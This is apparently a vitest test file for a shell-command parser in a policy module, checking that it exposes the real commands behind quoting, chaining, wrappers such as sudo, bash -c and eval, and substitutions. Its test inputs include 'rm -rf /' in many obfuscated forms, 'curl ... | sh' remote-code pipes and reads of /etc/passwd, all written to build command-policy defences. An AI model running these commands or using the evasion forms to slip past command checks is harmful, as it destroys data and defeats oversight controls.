import { describe, expect, it } from 'vitest';
import { parseShell } from '../../../src/policy/shell-words.js';

const commands = (src: string) => parseShell(src).commands.map((c) => c.words.join(' '));

describe('parseShell: words', () => {
  it.each([
    ['rm -rf /', ['rm -rf /']],
    ['"rm" -rf /', ['rm -rf /']],
    ["'r'm -rf /", ['rm -rf /']],
    ['r\\m -rf /', ['rm -rf /']],
    ['r""m -r\'f\' /', ['rm -rf /']],
    ["$'rm' -rf /", ['rm -rf /']],
    ['echo "a b"   c', ['echo a b c']],
    ['echo "say \\"hi\\""', ['echo say "hi"']],
    ['echo \'$HOME\'', ['echo $HOME']],
    ['rm \\\n -rf /', ['rm -rf /']],
    ['# only a comment', []],
    ['FOO=1 BAR=2 env', ['env']],
    ['FOO=1', []],
  ])('%j → %j', (src, expected) => {
    const p = parseShell(src);
    expect(p.ok).toBe(true);
    expect(commands(src)).toEqual(expected);
  });
});

describe('parseShell: chains and compound commands', () => {
  it.each([
    ['echo hi; rm -rf /', ['echo hi', 'rm -rf /']],
    ['echo hi;rm -rf /', ['echo hi', 'rm -rf /']],
    ['true && rm -rf / || echo failed', ['true', 'rm -rf /', 'echo failed']],
    ['cat /etc/passwd | grep root | wc -l', ['cat /etc/passwd', 'grep root', 'wc -l']],
    ['sleep 1 & rm -rf /', ['sleep 1', 'rm -rf /']],
    ['echo a\nrm -rf /', ['echo a', 'rm -rf /']],
    ['(cd /tmp && rm -rf x)', ['cd /tmp', 'rm -rf x']],
    ['{ echo a; rm -rf /; }', ['echo a', 'rm -rf /']],
    ['if true; then rm -rf /; else echo no; fi', ['true', 'rm -rf /', 'echo no']],
    ['while true; do rm -rf /tmp/x; done', ['true', 'rm -rf /tmp/x']],
    ['for f in a b; do rm -rf $f; done', ['rm -rf $f']],
    ['f() { rm -rf /; }; f', ['rm -rf /', 'f']],
    ['echo x > /tmp/out 2>&1; cat < /tmp/out', ['echo x', 'cat']],
    ['ls 2>/dev/null | rm -rf /', ['ls', 'rm -rf /']],
    ['cat <<EOF > /tmp/x\nrm -rf /\nEOF\nuptime', ['cat', 'uptime']],
  ])('%j → %j', (src, expected) => {
    const p = parseShell(src);
    expect(p.ok, p.error).toBe(true);
    expect(commands(src)).toEqual(expected);
  });
});

describe('parseShell: wrappers run what they wrap', () => {
  it.each([
    ['sudo -u root id', ['sudo -u root id', 'id']],
    ['sudo -uroot -- rm -rf /', ['sudo -uroot -- rm -rf /', 'rm -rf /']],
    ['bash -c "rm -rf /"', ['bash -c rm -rf /', 'rm -rf /']],
    ["sh -ec 'echo a; rm -rf /'", ['sh -ec echo a; rm -rf /', 'echo a', 'rm -rf /']],
    ['env -i PATH=/bin rm -rf /', ['env -i PATH=/bin rm -rf /', 'rm -rf /']],
    ['nohup nice -n 5 timeout 10 rm -rf /', ['nohup nice -n 5 timeout 10 rm -rf /', 'nice -n 5 timeout 10 rm -rf /', 'timeout 10 rm -rf /', 'rm -rf /']],
    ['eval "rm -rf /"', ['eval rm -rf /', 'rm -rf /']],
    ['su -c "rm -rf /" root', ['su -c rm -rf / root', 'rm -rf /']],
    ['find / -print0 | xargs -0 rm -rf', ['find / -print0', 'xargs -0 rm -rf', 'rm -rf']],
    ['sudo bash -c "sudo rm -rf /"', ['sudo bash -c sudo rm -rf /', 'bash -c sudo rm -rf /', 'sudo rm -rf /', 'rm -rf /']],
  ])('%j → %j', (src, expected) => {
    const p = parseShell(src);
    expect(p.ok, p.error).toBe(true);
    expect(p.dynamic).toEqual([]);
    expect(commands(src)).toEqual(expected);
  });

  it('records the wrappers a command runs under', () => {
    expect(parseShell('sudo -u root id').commands[1]).toEqual({ words: ['id'], via: ['sudo'] });
  });
});

describe('parseShell: what only running can tell is flagged dynamic', () => {
  it.each([
    ['echo $(rm -rf /)', 'rm -rf /'],
    ['echo `rm -rf /`', 'rm -rf /'],
    ['echo "$(rm -rf /)"', 'rm -rf /'],
    ['diff <(rm -rf /) /dev/null', 'rm -rf /'],
    ['cat <<EOF\n$(rm -rf /)\nEOF', 'rm -rf /'],
  ])('%j is dynamic and still shows the inner command', (src, inner) => {
    const p = parseShell(src);
    expect(p.ok).toBe(true);
    expect(p.dynamic.length).toBeGreaterThan(0);
    expect(p.commands.map((c) => c.words.join(' '))).toContain(inner);
  });

  it.each([
    '$CMD -rf /',
    '${CMD} /',
    'curl -s http://x/install | sh',
    'curl -s http://x/install | sudo bash',
    'bash -c "$CMD"',
    'sudo -s',
    'su root',
    'case x in x) rm -rf / ;; esac',
  ])('%j is dynamic', (src) => {
    expect(parseShell(src).dynamic.length).toBeGreaterThan(0);
  });

  it('a quoted heredoc body is data, not expansion', () => {
    expect(parseShell("cat <<'EOF'\n$(rm -rf /)\nEOF").dynamic).toEqual([]);
  });

  it('plain variables in arguments are not dynamic', () => {
    expect(parseShell('echo $HOME "${USER}"').dynamic).toEqual([]);
  });
});

describe('parseShell: syntax errors fail', () => {
  it.each(['echo "unterminated', "echo 'open", 'echo $(date', 'echo `date', 'cat <<EOF\nno end'])('%j', (src) => {
    const p = parseShell(src);
    expect(p.ok).toBe(false);
    expect(p.error).toBeTruthy();
  });
});
